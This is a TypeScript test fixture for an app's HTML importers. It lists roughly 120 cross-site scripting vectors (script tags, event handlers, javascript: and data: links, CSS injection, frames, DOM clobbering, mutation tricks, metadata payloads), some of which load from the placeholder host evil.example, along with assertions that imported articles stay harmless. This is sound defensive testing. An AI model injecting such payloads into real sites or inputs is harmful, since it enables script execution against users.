// Hostile pieces of HTML, written for the tests: every one of them would run something, load something or break out of
// its place if it reached a browser as markup. Tests put each into the format of their importer.

import { ok } from 'node:assert/strict';
import type { ImportedArticle } from '../../electron/workspace/importers/imported.ts';
import type { Span } from '../../shared/domain/span.ts';
import { canonicalFault } from '../../shared/text/canonical.ts';
import { isBlank } from '../../shared/text/white-space.ts';

/** Stands where a browser shows nothing: in scripts, styles, attributes. It may come out of no importer of markup. */
const hiddenWord = 'neverShownWord';
/** Stands in every vector where a browser shows it. */
export const shownWord = 'shownWord';

export interface XssVector {
  readonly name: string;
  readonly html: string;
}

const call = `alert('${hiddenWord}')`;
const vector = (name: string, html: string): XssVector => ({
  name,
  html: `<p>${shownWord}</p>${html}`,
});
const link = (name: string, href: string): XssVector =>
  vector(`link: ${name}`, `<p>see <a href="${href}">the words of a link</a> here</p>`);

const scripts: readonly XssVector[] = [
  vector('script', `<script>${call}</script>`),
  vector('script in mixed case', `<ScRiPt>${call}</sCrIpT>`),
  vector('script with a slash', `<script/x>${call}</script >`),
  vector('script from elsewhere', `<script src="//evil.example/${hiddenWord}.js"></script>`),
  vector('script that is never closed', `<script>${call}`),
  vector('script inside a word', `<p>wo<script>${call}</script>rd</p>`),
  vector('script that closes inside a string', `<script>var a = "<script>${call}</script>`),
  vector('script with an escaped comment', `<script><!-- ${call} --></script>`),
  vector(
    'script as a data island',
    `<script type="application/json">{"a":"${hiddenWord}"}</script>`,
  ),
  vector('module script', `<script type="module">import '${hiddenWord}'</script>`),
  vector('script in SVG', `<svg><script>${call}</script></svg>`),
  vector('script in a table', `<table><tr><td>cell<script>${call}</script></td></tr></table>`),
  vector('script in a list', `<ul><script>${call}</script><li>item</li></ul>`),
  vector('script in a select', `<select><option>a<script>${call}</script></option></select>`),
  vector('script in a template', `<template><script>${call}</script>${hiddenWord}</template>`),
  vector(
    'noscript',
    `<noscript><p title="</noscript><img src=x onerror=${hiddenWord}>"></p></noscript>`,
  ),
];

const handlers: readonly XssVector[] = [
  vector('onerror of a picture', `<img src=x onerror="${call}">`),
  vector('onerror without quotes', `<img src=x onerror=${hiddenWord}()>`),
  vector('onload of SVG', `<svg onload="${call}"><circle r="1"/></svg>`),
  vector('onload of body', `<body onload="${call}"><p>more</p></body>`),
  vector('onclick', `<p onclick="${call}">text</p>`),
  vector('onmouseover of a link', `<a href="https://example.org/" onmouseover="${call}">text</a>`),
  vector('onfocus with autofocus', `<input autofocus onfocus="${call}" value="${hiddenWord}">`),
  vector(
    'ontoggle of details',
    `<details open ontoggle="${call}"><summary>more</summary>text</details>`,
  ),
  vector('onstart of a marquee', `<marquee onstart="${call}">text</marquee>`),
  vector('handler after a slash', `<img/src=x/onerror=${hiddenWord}()>`),
  vector('handler after a null', `<img src=x\u0000 onerror\u0000="${call}">`),
  vector(
    'handler on an unknown element',
    `<x-y onclick="${call}" style="position:fixed">text</x-y>`,
  ),
  vector('video source', `<video><source onerror="${call}"></video>`),
];

const links: readonly XssVector[] = [
  link('javascript', `javascript:${call}`),
  link('javascript in mixed case', `JaVaScRiPt:${call}`),
  link('javascript after spaces', `  \n javascript:${call}`),
  link('javascript with a tab inside', `java\tscript:${call}`),
  link('javascript with a line end inside', `java\nscript:${call}`),
  link('javascript in entities', `&#106;&#97;vascript&colon;${call}`),
  link('javascript in entities without semicolons', `&#0000106&#0000097vascript:${call}`),
  link('javascript in hexadecimal entities', `&#x6A;avascript&#x3A;${call}`),
  link('javascript after a control character', `\u0001javascript:${call}`),
  // A browser reads this one as a path on the page's own site.
  link('javascript after a null', '\u0000javascript:one()'),
  link('vbscript', `vbscript:msgbox('${hiddenWord}')`),
  link('data', `data:text/html,<script>${hiddenWord}</script>`),
  link('data in base64', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='),
  link('file', `file:///etc/${hiddenWord}`),
  link('blob', 'blob:https://example.org/0b0f2f0e-6a53-4e0e-9d0c-0f6f5b0c7a11'),
  link('view-source', `view-source:javascript:${call}`),
  link('feed', `feed:javascript:${call}`),
  link('jar', 'jar:https://example.org/a.jar!/page.html'),
  link('ftp', 'ftp://example.org/file'),
  link('an address of the app', 'app://sourcebench/index.html'),
  link('broken', 'http://[::1'),
  vector(
    'link in SVG',
    `<svg><a xlink:href="javascript:${call}"><text>${hiddenWord}</text></a></svg>`,
  ),
  vector('link in MathML', `<math href="javascript:${call}"><mi>x</mi></math>`),
  vector('base', `<base href="javascript:/${hiddenWord}/"><p><a href="x">text</a></p>`),
  vector(
    'area of a map',
    `<map name="m"><area href="javascript:${call}" alt="${hiddenWord}"></map>`,
  ),
  vector(
    'form that posts',
    `<form action="javascript:${call}"><button>${hiddenWord}</button></form>`,
  ),
  vector('button with an action', `<button formaction="javascript:${call}">${hiddenWord}</button>`),
];

const styles: readonly XssVector[] = [
  vector(
    'style element',
    `<style>@import '//evil.example/${hiddenWord}.css'; p::after { content: '${hiddenWord}' }</style>`,
  ),
  vector(
    'style with a script inside',
    `<style></style ><style><img src="</style><img src=x onerror=${hiddenWord}>"></style>`,
  ),
  vector('style attribute', `<p style="background:url(javascript:${hiddenWord})">text</p>`),
  vector('expression', `<p style="width: expression(${hiddenWord}())">text</p>`),
  vector('binding', `<p style="-moz-binding:url(//evil.example/${hiddenWord}#x)">text</p>`),
  vector('style in SVG', `<svg><style><img src=x onerror=${hiddenWord}></style></svg>`),
  vector('style sheet', `<link rel="stylesheet" href="//evil.example/${hiddenWord}.css">`),
  vector('hidden by style', `<p style="color:red; display : none">${hiddenWord}</p>`),
];

const embedded: readonly XssVector[] = [
  vector('frame', `<iframe src="javascript:${call}">${hiddenWord}</iframe>`),
  vector('frame with a document', `<iframe srcdoc="<script>${hiddenWord}</script>"></iframe>`),
  vector(
    'object',
    `<object data="data:text/html,${hiddenWord}"><param name="x" value="${hiddenWord}"></object>`,
  ),
  vector('embed', `<embed src="//evil.example/${hiddenWord}.swf">`),
  vector('applet', `<applet code="${hiddenWord}">${hiddenWord}</applet>`),
  vector('refresh', `<meta http-equiv="refresh" content="0;url=javascript:${call}">`),
  vector('portal', `<portal src="//evil.example/${hiddenWord}"></portal>`),
  vector(
    'picture from elsewhere',
    `<img src="//evil.example/${hiddenWord}.gif" width="1" height="1" alt="${hiddenWord}">`,
  ),
  vector('animated link', `<svg><animate attributeName="href" values="javascript:${call}"/></svg>`),
  vector('foreign object', `<svg><foreignObject><p>${hiddenWord}</p></foreignObject></svg>`),
  vector('use', `<svg><use href="data:image/svg+xml,${hiddenWord}#x"/></svg>`),
];

const clobbering: readonly XssVector[] = [
  ...[
    'parentNode',
    'childNodes',
    'firstChild',
    'nextSibling',
    'attributes',
    'nodeName',
    'innerHTML',
    'textContent',
    '__proto__',
    'constructor',
  ].map((name) =>
    vector(`form that hides ${name}`, `<form><input name="${name}"><p>text</p></form>`),
  ),
  vector(
    'ids that hide methods',
    '<div id="getElementById"><a id="querySelector" name="body">text</a></div>',
  ),
  vector('ids like ours', '<p id="__proto__" class="constructor toString">text</p>'),
];

const mutations: readonly XssVector[] = [
  vector(
    'MathML that turns into HTML',
    `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=${hiddenWord}>">`,
  ),
  vector(
    'SVG that turns into HTML',
    `<svg></p><style><a title="</style><img src=x onerror=${hiddenWord}>">`,
  ),
  vector(
    'annotation with HTML',
    `<math><semantics><mi>x</mi><annotation-xml encoding="text/html"><p>${hiddenWord}</p></annotation-xml></semantics></math>`,
  ),
  vector('title in SVG', `<svg><title><img src=x onerror=${hiddenWord}></title></svg>`),
  vector('comment closed early', `<!--><img src=x onerror="${call}">-->`),
  vector('comment closed with a bang', `<!-- --!><img src=x onerror="${call}"> -->`),
  vector('comment with a script', `<!-- <script>${call}</script> -->`),
  vector('conditional comment', `<!--[if gte IE 4]><script>${call}</script><![endif]-->`),
  vector('CDATA', `<svg><![CDATA[<img src=x onerror=${hiddenWord}>]]></svg>`),
  vector('processing instruction', `<?xml-stylesheet href="javascript:${hiddenWord}"?>`),
  vector('entities that spell a tag', '<p>&lt;script&gt;one()&lt;/script&gt;</p>'),
  vector('entities that spell entities', '<p>&amp;lt;img src=x onerror=one()&amp;gt;</p>'),
  vector('quotes that are not closed', `<p title="<img src=x onerror=${hiddenWord}>text</p>`),
  vector('backticks', '<img src=x alt=``onerror=one()`>'),
  vector('null in a tag', `<scr\u0000ipt>one()</scr\u0000ipt>`),
  vector(
    'nested formatting',
    `<a href="https://example.org/"><b><a href="javascript:${hiddenWord}"><i>text</b></a></i></a>`,
  ),
  vector('table that is torn', `<table><a href="javascript:${call}">text<tr><td>cell</a></table>`),
  vector('textarea', `<textarea><img src=x onerror=${hiddenWord}></textarea>`),
  vector('xmp', '<xmp><img src=x onerror=one()></xmp>'),
];

const metadata: readonly XssVector[] = [
  vector('title with markup', `<title><script>${call}</script>A title</title>`),
  vector(
    'meta with a script address',
    `<meta property="og:url" content="javascript:${call}"><meta property="og:title" content="javascript:${call}">`,
  ),
  vector(
    'meta with markup',
    `<meta name="author" content="<img src=x onerror=${call}>Ana"><meta property="og:site_name" content="<script>${call}</script>Times">`,
  ),
  vector('canonical script', `<link rel="canonical" href="javascript:${call}">`),
  vector(
    'JSON-LD with markup',
    `<script type="application/ld+json">{"@type":"NewsArticle","headline":"<script>${hiddenWord}<\\/script>A <b>headline</b>","url":"javascript:${hiddenWord}","author":{"name":"<style>${hiddenWord}</style>Ana"}}</script>`,
  ),
  vector(
    'JSON-LD with a prototype',
    '<script type="application/ld+json">{"__proto__":{"@type":"NewsArticle"},"@type":"NewsArticle","headline":{"toString":1},"author":[[[]],{"name":{}}]}</script>',
  ),
  vector(
    'comment of a saved page',
    `<!-- Page saved with SingleFile \n url: javascript:${call} \n saved date: today -->`,
  ),
];

export const xssVectors: readonly XssVector[] = [
  ...scripts,
  ...handlers,
  ...links,
  ...styles,
  ...embedded,
  ...clobbering,
  ...mutations,
  ...metadata,
];

const markTypes = new Set(['bold', 'italic', 'underline', 'code', 'link']);
const blockTypes = new Set([
  'heading',
  'paragraph',
  'blockquote',
  'list-item',
  'table-row',
  'preformatted',
]);

/**
 * Throws unless the article is sound and harmless: canonical text covered by blocks in order, marks of known types
 * inside blocks, addresses of pages and mail only, and no script for an address in any field. Markup that is shown as
 * words is words.
 */
export function assertHarmless(article: ImportedArticle): void {
  const { text, blocks, marks, sourceMap, metadata: fields, detected } = article;
  ok(canonicalFault(text) === null, `the text holds ${canonicalFault(text) ?? ''}`);
  assertInOrder(text, blocks, 'blocks');
  let covered = 0;
  for (const block of blocks) {
    ok(blockTypes.has(block.type), `unknown block ${block.type}`);
    ok(isBlank(text, covered, block.startUtf16), 'some text is in no block');
    covered = block.endUtf16;
  }
  ok(isBlank(text, covered, text.length), 'some text at the end is in no block');
  for (const mark of marks) {
    ok(markTypes.has(mark.type), `unknown mark ${mark.type}`);
    ok(
      (mark.type === 'link') === (mark.href !== undefined),
      'a link without an address, or the reverse',
    );
    if (mark.href !== undefined)
      ok(/^(?:https?:\/\/|mailto:)/.test(mark.href), `link to ${mark.href}`);
    const holder = blocks.find(
      (block) => block.startUtf16 <= mark.startUtf16 && mark.endUtf16 <= block.endUtf16,
    );
    ok(mark.startUtf16 < mark.endUtf16 && holder !== undefined, 'a mark is in no block');
  }
  assertInOrder(text, sourceMap, 'source map');
  ok(fields.url === null || /^https?:\/\//.test(fields.url), `url ${fields.url ?? ''}`);
  for (const value of [
    ...Object.values<string | null>({ ...fields }),
    ...Object.values(detected).map((one) => one?.value),
  ]) {
    ok(
      typeof value !== 'string' || !/^\s*(?:javascript|vbscript|data)\s*:\S/i.test(value),
      `field ${value ?? ''}`,
    );
  }
}

/** Throws when words come out that a browser does not show. For importers that read markup as markup. */
export function assertNothingHidden(article: ImportedArticle): void {
  const words = JSON.stringify([article.text, article.marks, article.metadata, article.detected]);
  ok(!words.includes(hiddenWord), `hidden words came out: ${article.text.slice(0, 200)}`);
}

function assertInOrder(text: string, spans: readonly Span[], what: string): void {
  let end = 0;
  for (const span of spans) {
    ok(span.startUtf16 >= end && span.endUtf16 > span.startUtf16, `the ${what} are out of order`);
    end = span.endUtf16;
  }
  ok(end <= text.length, `the ${what} go past the text`);
}
